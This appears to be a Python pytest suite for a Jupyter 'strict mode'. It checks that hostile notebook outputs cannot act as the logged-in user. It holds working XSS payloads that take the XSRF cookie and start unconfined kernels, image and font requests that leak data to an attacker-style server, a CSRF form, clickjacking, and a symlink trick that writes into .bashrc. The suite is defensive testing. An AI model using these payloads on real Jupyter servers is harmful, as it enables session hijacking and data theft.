"""What a hostile notebook shows cannot act as the user in strict mode, and can without it.

Each attack is carried out twice by the same code, from a confined kernel, on a user who is logged
in: on a server as it is installed, where it has to work, so that the test is worth something, and
on a strict one. What counts is what the server saw and what the browser ran, not what was drawn.
"""

from __future__ import annotations

import json
import sys
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from ..jupyter.server import TOKEN
from .support import Browser, Home, Lab, User

STRICT = (
    'c.ServerApp.kernel_spec_manager_class = "modelarmor_jupyter.specs.StrictKernelSpecManager"\n'
)
PROVISIONER = {"provisioner_name": "local-provisioner"}

# What an attacker's script does: it says that it runs, and starts a kernel as the user.
SCRIPT = (
    "window.ran && ran('ROUTE', origin);"
    "fetch('/api/sessions', {method: 'POST', headers: {'Content-Type': 'application/json',"
    " 'X-XSRFToken': (document.cookie.match(/_xsrf=([^;]*)/) || [])[1]},"
    " body: JSON.stringify({path: 'ROUTE', name: 'ROUTE', type: 'notebook',"
    " kernel: {name: 'unconfined'}})})"
)


class Elsewhere:
    """A server of the attacker's. It remembers what it was asked for."""

    def __init__(self) -> None:
        self.asked: list[str] = []
        asked = self.asked

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                asked.append(self.path)
                self.send_response(200)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def log_message(self, *_: object) -> None:
                pass

        self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self._server.server_port}"
        threading.Thread(target=self._server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self._server.shutdown()
        self._server.server_close()


@dataclass
class Victim:
    """A user at a notebook of the attacker's, and what became of it."""

    lab: Lab
    user: User
    elsewhere: Elsewhere
    strict: bool
    #: the routes and the origins of the attacker's scripts that ran, in whichever frame
    ran: list[tuple[str, str]] = field(default_factory=list)
    #: what the browser refused to do, as ``directive address``
    refused: list[str] = field(default_factory=list)

    def watch(self) -> None:
        context = self.user.context
        context.expose_binding("ran", lambda _, route, origin: self.ran.append((route, origin)))
        context.expose_binding("refused", lambda _, what: self.refused.append(what))
        context.add_init_script(
            "addEventListener('securitypolicyviolation',"
            " e => refused(`${e.effectiveDirective} ${e.blockedURI}`))"
        )

    def begin(self) -> None:
        """Forget what the last attack left behind."""
        self.refused.clear()
        self.user.console.clear()

    def reasons(self) -> str:
        """Why something was refused: what the browser reports, and what is shown instead."""
        return " ".join([*self.refused, *self.user.console, *self.user.outputs()])

    def routes(self) -> list[str]:
        return [route for route, _ in self.ran]

    def sessions(self) -> list[str]:
        return [session["path"] for session in self.lab.get("api/sessions")]

    def wait(self, happened: Callable[[], object]) -> None:
        """Wait until something is true; the browser goes on meanwhile."""
        page = self.user.page
        for _ in range(600):  # the machine may be busy with something else
            if happened():
                return
            page.wait_for_timeout(50)
        raise AssertionError(
            f"nothing happened; ran {self.ran}, refused {self.refused}, sessions"
            f" {self.sessions()}, elsewhere {self.elsewhere.asked},"
            f" console {self.user.console[-5:]}"
        )


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    server = Elsewhere()
    yield server
    server.close()


def _home(top: Path) -> Home:
    home = Home(top)
    # Kernels that are nobody's. The first names no provisioner, as `python3` does.
    program = [sys.executable, "-S", "-c", "import signal; signal.pause()", "{connection_file}"]
    for name, metadata in {
        "unconfined": {},
        "rogue": {"kernel_provisioner": PROVISIONER},
    }.items():
        spec = home.data / "kernels" / name
        spec.mkdir(parents=True)
        (spec / "kernel.json").write_text(
            json.dumps(
                {"argv": program, "display_name": name, "language": "x", "metadata": metadata}
            )
        )
    return home


@pytest.fixture(
    scope="module",
    # that an attack works where nothing is strict is tried with --thorough
    params=[pytest.param("ordinary", marks=pytest.mark.thorough), "strict"],
)
def attacked(
    request: pytest.FixtureRequest,
    tmp_path_factory: pytest.TempPathFactory,
    browser: Browser,
    elsewhere: Elsewhere,
) -> Iterator[Callable[[], Victim]]:
    """Gives the victim, who opens the notebook again where the browser crashed."""
    strict = request.param == "strict"
    lab = Lab(_home(tmp_path_factory.mktemp("b")), STRICT if strict else "")
    victims: list[Victim] = []

    def victim() -> Victim:
        if not victims or victims[-1].user.page.is_closed():
            user = users.enter_context(browser.user(lab))
            victims.append(Victim(lab, user, elsewhere, strict))
            victims[-1].watch()
            user.open("n.ipynb")
        return victims[-1]

    with ExitStack() as users:
        users.callback(lab.stop)
        users.callback(lab.end_kernels)
        lab.write_notebook("n.ipynb", [""])
        yield victim


@pytest.fixture
def victim(attacked: Callable[[], Victim]) -> Victim:
    return attacked()


@pytest.fixture(autouse=True)
def nothing_unconfined(request: pytest.FixtureRequest) -> Iterator[None]:
    """Whatever a test does to a strict server, every kernel of it is confined."""
    victim = request.getfixturevalue("victim") if "victim" in request.fixturenames else None
    yield
    assert victim is None or not victim.strict or victim.lab.unconfined() == []


def _html(body: str) -> str:
    return f"from IPython.display import *; display(HTML({body!r}))"


def _script(route: str) -> str:
    return SCRIPT.replace("ROUTE", route)


def _click(selector: str) -> Callable[[Victim], None]:
    def click(victim: Victim) -> None:
        victim.user.page.locator(f".jp-OutputArea-output {selector}").last.click()

    return click


@dataclass(frozen=True)
class Attack:
    """Code that a hostile notebook executes, and what its user then does."""

    route: str
    code: str
    #: for what comes after the code: a click, a file that is opened
    then: Callable[[Victim], None] | None = None
    #: in the middle of the reason that the browser or the server gives in strict mode
    refusal: str = "script-src"


def _write(name: str, text: str) -> str:
    return f"open({name!r}, 'w').write({text!r})\n"


def _display(what: str) -> str:
    return f"from IPython.display import *; display({what})"


def _mime(mimetype: str, data: object) -> str:
    return _display(f"{{{mimetype!r}: {data!r}}}, raw=True")


def _anywidget(esm: str) -> str:
    return f"import anywidget\nclass W(anywidget.AnyWidget):\n    _esm = {esm!r}\nW()"


def _image(route: str) -> str:
    """An image that cannot be loaded, and what the attacker has that do."""
    return f'<img {BROKEN} onerror="{_script(route)}">'


S = _script
BROKEN = 'src="data:image/png;base64,x"'
OUTPUT = (
    "import ipywidgets\nfrom IPython.display import *\nout = ipywidgets.Output()\ndisplay(out)\n"
)
ATTACKS = [
    Attack(
        "javascript",
        _display(f"Javascript({S('javascript')!r})"),
        refusal="Javascript object",
    ),
    Attack(
        "javascript-magic",
        f"%%javascript\n{S('javascript-magic')}",
        refusal="Javascript object",
    ),
    Attack("html-script", _html(f"<script>{S('html-script')}</script>")),
    Attack("html-onerror", _html(f'<img {BROKEN} onerror="{S("html-onerror")}">')),
    Attack(
        "html-animation",
        _html(
            '<style>@keyframes x {from {color: red}}</style><b style="animation: x 1ms"'
            f' onanimationstart="{S("html-animation")}">.</b>'
        ),
    ),
    Attack(
        "html-button",
        _html(f'<button onclick="{S("html-button")}">More</button>'),
        _click("button"),
    ),
    Attack(
        "html-script-file",
        _write("evil.js", S("html-script-file")) + _html('<script src="/files/evil.js"></script>'),
        refusal="403",
    ),
    Attack(
        "html-module-file",
        _write("evil.mjs", S("html-module-file"))
        + _html('<script type="module" src="/files/evil.mjs"></script>'),
        refusal="403",
    ),
    Attack("html-srcdoc", _html(f'<iframe srcdoc="<script>{S("html-srcdoc")}</script>">')),
    Attack(
        "html-javascript-frame", _html(f'<iframe src="javascript:{S("html-javascript-frame")}">')
    ),
    Attack(
        "markdown", _display(f"""Markdown('<img {BROKEN} onerror="' + {S("markdown")!r} + '">')""")
    ),
    Attack(
        "widget-html",
        f"import ipywidgets; ipywidgets.HTML({_image('widget-html')!r})",
    ),
    Attack(
        "widget-output",
        OUTPUT
        + f"out.append_display_data(HTML('<script>' + {S('widget-output')!r} + '</script>'))",
    ),
    Attack(
        "widget-output-javascript",
        OUTPUT + f"out.append_display_data(Javascript({S('widget-output-javascript')!r}))",
        refusal="Javascript object",
    ),
    Attack("anywidget", _anywidget(f"export default {{render() {{ {S('anywidget')} }}}}")),
    Attack(
        "anywidget-file",
        _write("any.mjs", f"{S('anywidget-file')}; export default {{}}")
        + _anywidget("URL/files/any.mjs"),
        refusal="403",
    ),
    Attack(
        "pandas",
        "import pandas as pd\nfrom IPython.display import *\n"
        f"HTML(pd.DataFrame(dict(a=[{_image('pandas')!r}])).to_html(escape=False))",
    ),
    Attack("html-toggle", _html(f'<details open ontoggle="{S("html-toggle")}">x</details>')),
]


@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.route)
def test_an_output_that_runs_a_script_starts_a_kernel_unless_strict(
    victim: Victim, attack: Attack
) -> None:
    victim.begin()

    victim.user.execute(attack.code.replace("URL/", victim.lab.url))
    if attack.then is not None:
        attack.then(victim)

    if victim.strict:
        victim.wait(lambda: attack.refusal in victim.reasons())
        assert attack.route not in victim.routes()
        assert attack.route not in victim.sessions()
    else:
        victim.wait(lambda: attack.route in victim.sessions())
        victim.wait(lambda: attack.route in victim.routes())


def _open_in_tab(name: str, address: str = "/files/") -> Callable[[Victim], None]:
    def open_it(victim: Victim) -> None:
        victim.user.open_in_tab(name, address)

    return open_it


def _preview_and_trust(victim: Victim) -> None:
    user = victim.user
    user.command("docmanager:open", {"path": "preview.html", "factory": "HTML Viewer"})
    user.page.get_by_role("button", name="Trust HTML").click()
    user.page.wait_for_function(
        "document.querySelector('.jp-HTMLViewer iframe').sandbox.contains('allow-scripts')"
    )


_PAGE = "<body><script>{}</script>"
_SVG = '<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[{}]]></script></svg>'
_NOTEBOOK = {
    "nbformat": 4,
    "nbformat_minor": 5,
    "metadata": {},
    "cells": [{"id": "a", "cell_type": "markdown", "metadata": {}, "source": "TEXT"}],
}
FILES = [
    Attack(
        "data-frame",
        _html(f'<iframe src="data:text/html,<script>{S("data-frame")}</script>">'),
        refusal="frame-src",
    ),
    Attack(
        "file-frame",
        _write("f.html", _PAGE.format(S("file-frame"))) + _html('<iframe src="/files/f.html">'),
        refusal="frame-src",
    ),
    Attack("html-in-tab", _write("t.html", _PAGE.format(S("html-in-tab"))), _open_in_tab("t.html")),
    Attack("svg-in-tab", _write("t.svg", _SVG.format(S("svg-in-tab"))), _open_in_tab("t.svg")),
    Attack(
        "exported-notebook",
        _write(
            "e.ipynb",
            json.dumps(_NOTEBOOK).replace("TEXT", f"<script>{S('exported-notebook')}</script>"),
        ),
        _open_in_tab("e.ipynb", "/nbconvert/html/"),
    ),
    Attack(
        "trusted-preview",
        _write("preview.html", _PAGE.format(S("trusted-preview"))),
        _preview_and_trust,
    ),
]  # fmt: skip


@pytest.mark.parametrize("attack", FILES, ids=lambda attack: attack.route)
def test_a_file_that_the_kernel_wrote_runs_no_script_when_strict(
    victim: Victim, attack: Attack
) -> None:
    """Without strict mode it runs; that of the trusted preview even as this server's own."""
    victim.begin()

    victim.user.execute(attack.code)
    if attack.then is not None:
        attack.then(victim)

    if victim.strict:
        victim.wait(lambda: attack.refusal in victim.reasons())
        assert attack.route not in victim.routes()
        assert attack.route not in victim.sessions()
    else:
        victim.wait(lambda: attack.route in victim.routes())


def _vega(url: str) -> str:
    shown = {"width": 9, "height": 9, "url": url}
    mark = {"type": "image", "encode": {"enter": {k: {"value": v} for k, v in shown.items()}}}
    schema = "https://vega.github.io/schema/vega/v5.json"
    return _mime("application/vnd.vega.v5+json", {"$schema": schema, "marks": [mark]})


LEAKS = {
    "image": (_html('<img src="ELSEWHERE/image">'), "img-src"),
    "markdown-image": (_display("Markdown('![](ELSEWHERE/markdown-image)')"), "img-src"),
    "background": (_html('<p style="background: url(ELSEWHERE/background)">.'), "img-src"),
    "stylesheet": (_html('<link rel="stylesheet" href="ELSEWHERE/stylesheet">'), "style-src"),
    "import": (_html("<style>@import 'ELSEWHERE/import';</style>"), "style-src"),
    "font": (
        _html(
            "<style>@font-face {font-family: leak; src: url(ELSEWHERE/font)}</style>"
            '<p style="font-family: leak">text'
        ),
        "font-src",
    ),
    "frame": (_html('<iframe src="ELSEWHERE/frame">'), "frame-src"),
    "object": (_html('<object data="ELSEWHERE/object"></object>'), "object-src"),
    "embed": (_html('<embed src="ELSEWHERE/embed">'), "object-src"),
    "video": (_html('<video src="ELSEWHERE/video">'), "media-src"),
    "poster": (_html('<video poster="ELSEWHERE/poster">'), "img-src"),
    "svg-image": (_html('<svg><image href="ELSEWHERE/svg-image"></svg>'), "img-src"),
    "prefetch": (_html('<link rel="prefetch" href="ELSEWHERE/prefetch">'), "default-src"),
    "vega": (_vega("ELSEWHERE/vega"), "img-src"),
}


@pytest.mark.parametrize("route", LEAKS)
def test_an_output_fetches_from_elsewhere_unless_strict(victim: Victim, route: str) -> None:
    """A kernel without a network would send out what it knows by the user's browser."""
    code, directive = LEAKS[route]
    victim.begin()

    victim.user.execute(code.replace("ELSEWHERE", victim.elsewhere.url))

    if victim.strict:
        victim.wait(lambda: any(r.startswith(directive) for r in victim.refused))
        assert f"/{route}" not in victim.elsewhere.asked
    else:
        victim.wait(lambda: f"/{route}" in victim.elsewhere.asked)
        victim.elsewhere.asked.clear()


def test_an_output_submits_a_form_unless_strict(victim: Victim) -> None:
    """The server asks for a token that the kernel does not have; strict mode keeps it at home."""
    victim.begin()
    victim.user.execute(
        _html(
            '<form action="/api/kernels" method="post" enctype="text/plain" target="_blank">'
            '<input name=\'{"name": "unconfined", "x": "\' value=\'"}\'>'
            "<button>More</button></form>"
        )
    )
    victim.user.page.locator(".jp-OutputArea-output form button").click()

    if victim.strict:
        victim.wait(lambda: "form-action" in victim.reasons())
        assert "POST api/kernels 403" not in victim.user.answers
    else:
        victim.wait(lambda: "POST api/kernels 403" in victim.user.answers)


def test_an_output_frames_the_application_unless_strict(victim: Victim) -> None:
    """A frame of the application under a transparent output is clicked on by its user."""
    victim.begin()
    before = victim.user.answers.count("GET tree 200") + victim.user.answers.count("GET lab 200")
    victim.user.execute(_html('<iframe src="/lab"></iframe>'))

    if victim.strict:
        victim.wait(lambda: "frame-src" in victim.reasons())
        assert victim.user.answers.count("GET lab 200") == before
    else:
        victim.wait(lambda: victim.user.answers.count("GET lab 200") > before)


def test_a_click_on_an_output_starts_a_kernel_that_is_confined_when_strict(victim: Victim) -> None:
    """An output may name a command of JupyterLab, with no script: the server has to hold."""
    victim.begin()
    before = {state["kernel_id"] for state in victim.lab.kernels()}
    arguments = json.dumps({"kernelPreference": {"name": "unconfined"}, "path": ""})
    victim.user.execute(
        _html(
            '<button data-commandlinker-command="console:create"'
            f" data-commandlinker-args='{arguments}'>More</button>"
        )
    )
    victim.user.page.locator(".jp-OutputArea-output button").click()

    def new() -> list[Any]:
        return [s for s in victim.lab.kernels() if s["kernel_id"] not in before]

    victim.wait(new)
    assert [state["confined"] for state in new()] == [victim.strict]
    victim.user.command("application:close")


@pytest.mark.parametrize("kernel", ["unconfined", "rogue"])
def test_a_notebook_chooses_an_unconfined_kernel_unless_strict(
    victim: Victim, browser: Browser, kernel: str
) -> None:
    """A kernel rewrites a notebook's metadata; its user opens it."""
    name = f"{kernel}.ipynb"
    victim.user.execute(
        _write(name, json.dumps({**_NOTEBOOK, "metadata": {"kernelspec": {"name": kernel}}}))
    )
    with browser.user(victim.lab) as user:
        user.page.goto(f"{victim.lab.url}lab/tree/{name}?reset", wait_until="domcontentloaded")
        user.wait_for_application()
        if victim.strict and kernel == "rogue":
            # not among the kernels: JupyterLab asks, and the server refuses whoever insists
            user.page.get_by_text("Select Kernel").first.wait_for()
            assert victim.lab.start("rogue", name).status_code == 501
        else:
            victim.wait(lambda: name in victim.sessions())
            [session] = [s for s in victim.lab.get("api/sessions") if s["path"] == name]
            assert (session["kernel"]["id"] in victim.lab.unconfined()) == (not victim.strict)


def test_what_the_user_saves_goes_where_the_kernel_says_unless_strict(
    victim: Victim, browser: Browser
) -> None:
    """A kernel exchanges the notebook that is open for a link to a file that it may not write."""
    startup = victim.lab.home.path / ".bashrc"
    startup.write_text("# as it was\n")
    name = f"draft-{victim.strict}.ipynb"
    victim.lab.write_notebook(name, ["import os"])
    with browser.user(victim.lab) as user:
        user.open(name)
        user.execute(
            f"# $(touch owned)\nimport os\nos.unlink({name!r})\n"
            f"os.symlink({str(startup)!r}, {name!r})"
        )
        user.page.evaluate("jupyterapp.commands.execute('docmanager:save'), true")
        if not victim.strict:
            # The file is another by now, and JupyterLab says so. Notebooks do change themselves.
            user.page.get_by_role("button", name="Overwrite").click()
        victim.wait(lambda: f"PUT api/contents/{name} " in " ".join(user.answers))

    assert ("touch owned" in startup.read_text()) != victim.strict


# Notebook 7 executes scripts of displays whatever its page says of disabled extensions.
NOTEBOOK_7 = ("javascript", "javascript-magic", "widget-output-javascript", "html-onerror")


@pytest.mark.parametrize("strict", [False, True], ids=["ordinary", "strict"])
def test_notebook_7_is_guarded_alike(
    tmp_path: Path, browser: Browser, elsewhere: Elsewhere, strict: bool
) -> None:
    lab = Lab(_home(tmp_path), STRICT if strict else "", app="notebook")
    try:
        lab.write_notebook("n.ipynb", [""])
        with browser.user(lab) as user:
            victim = Victim(lab, user, elsewhere, strict)
            victim.watch()
            user.open("n.ipynb")
            for attack in [a for a in ATTACKS if a.route in NOTEBOOK_7]:
                victim.begin()
                user.execute(attack.code)
                if strict:
                    victim.wait(lambda: attack.refusal in victim.reasons())  # noqa: B023 - now
                else:
                    victim.wait(lambda: attack.route in victim.sessions())  # noqa: B023
        assert (victim.ran == []) == strict
        assert (lab.unconfined() == []) == strict
    finally:
        lab.end_kernels()
        lab.stop()


def test_a_user_logs_in_by_the_form_when_strict(tmp_path: Path, browser: Browser) -> None:
    lab = Lab(_home(tmp_path), STRICT)
    try:
        with browser.user(lab) as user:
            user.context.clear_cookies()
            user.page.goto(f"{lab.url}lab")
            user.page.locator("#password_input").fill(TOKEN)
            user.page.locator("#login_submit").click()
            user.wait_for_application()
            user.page.goto(f"{lab.url}lab/tree/?token={TOKEN}", wait_until="domcontentloaded")
            user.wait_for_application()
            assert TOKEN not in user.page.url
    finally:
        lab.stop()
